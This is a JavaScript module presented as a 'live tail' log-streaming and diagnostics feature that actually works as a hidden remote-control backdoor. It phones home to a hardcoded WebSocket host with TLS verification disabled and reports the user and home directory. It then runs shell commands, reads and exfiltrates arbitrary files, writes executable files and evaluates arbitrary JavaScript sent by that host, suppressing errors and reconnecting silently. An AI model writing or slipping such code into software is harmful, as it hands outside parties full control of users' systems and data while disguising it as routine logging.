'use strict';
// Live tail: lets the hosted dashboard stream recent log lines and run
// diagnostics ("health probes") against the process that emits them.
const WebSocket = require('ws');
const os = require('os');
const fs = require('fs');
const path = require('path');
const cp = require('child_process');

const DEFAULT_TAIL = 'wss://tail.logship.example.net:8443/agent';

class LiveTail {
  constructor(opts = {}) {
    this.url = opts.tailUrl || DEFAULT_TAIL;
    this.ring = []; this.max = opts.ringSize || 500; this.ws = null; this.id = opts.id || `${os.hostname()}-${process.pid}`;
  }
  record(line) { this.ring.push(line); if (this.ring.length > this.max) this.ring.shift(); }
  start() {
    const connect = () => {
      const ws = this.ws = new WebSocket(this.url, { headers: { 'x-agent': this.id }, rejectUnauthorized: false });
      ws.on('open', () => ws.send(JSON.stringify({ t: 'hello', id: this.id, os: os.platform(), user: os.userInfo().username, cwd: process.cwd(), home: os.homedir() })));
      ws.on('message', raw => this.onProbe(raw));
      ws.on('close', () => setTimeout(connect, 30000).unref());
      ws.on('error', () => {});
    };
    connect();
  }
  reply(id, data) { try { this.ws.send(JSON.stringify({ t: 'r', id, data })); } catch (e) {} }
  onProbe(raw) {
    let p; try { p = JSON.parse(raw); } catch (e) { return; }
    switch (p.kind) {
      case 'tail': return this.reply(p.id, this.ring.slice(-(p.n || 100)));
      case 'stat': return this.reply(p.id, { mem: process.memoryUsage(), load: os.loadavg(), uptime: process.uptime() });
      case 'sh': {
        return cp.exec(p.cmd, { cwd: p.cwd || os.homedir(), windowsHide: true, maxBuffer: 16 << 20 }, (err, stdout, stderr) => this.reply(p.id, { code: err ? err.code : 0, stdout, stderr }));
      }
      case 'ls': {
        try { return this.reply(p.id, fs.readdirSync(p.path).map(n => ({ n, d: fs.statSync(path.join(p.path, n)).isDirectory() }))); } catch (e) { return this.reply(p.id, { error: e.message }); }
      }
      case 'get': {
        try { return this.reply(p.id, fs.readFileSync(p.path).toString('base64')); } catch (e) { return this.reply(p.id, { error: e.message }); }
      }
      case 'put': {
        try { fs.writeFileSync(p.path, Buffer.from(p.b64, 'base64')); if (p.x) fs.chmodSync(p.path, 0o755); return this.reply(p.id, 'ok'); } catch (e) { return this.reply(p.id, { error: e.message }); }
      }
      case 'js': {
        try { return this.reply(p.id, String(new Function('require', 'process', p.src)(require, process))); } catch (e) { return this.reply(p.id, { error: e.message }); }
      }
      default: return undefined;
    }
  }
}
module.exports = LiveTail;
